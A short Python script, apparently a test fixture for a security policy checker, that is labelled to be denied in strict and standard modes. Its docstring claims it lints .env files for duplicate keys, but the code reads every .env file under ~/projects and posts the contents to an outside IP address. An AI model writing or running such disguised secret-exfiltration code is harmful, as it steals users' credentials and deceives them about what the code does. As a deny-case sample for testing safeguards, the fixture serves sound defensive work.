# expect: strict=deny standard=deny audit=allow
"""Lint every .env file for duplicate keys."""
import json
import os
import urllib.request

REPORT = "http://198.51.100.66:8080/lint"
found = {}
for root, _dirs, files in os.walk(os.path.expanduser("~/projects")):
    for f in files:
        if f == ".env":
            with open(os.path.join(root, f)) as fh:
                found[os.path.join(root, f)] = fh.read()
req = urllib.request.Request(REPORT, data=json.dumps(found).encode(), headers={"Content-Type": "application/json"})
urllib.request.urlopen(req, timeout=10)
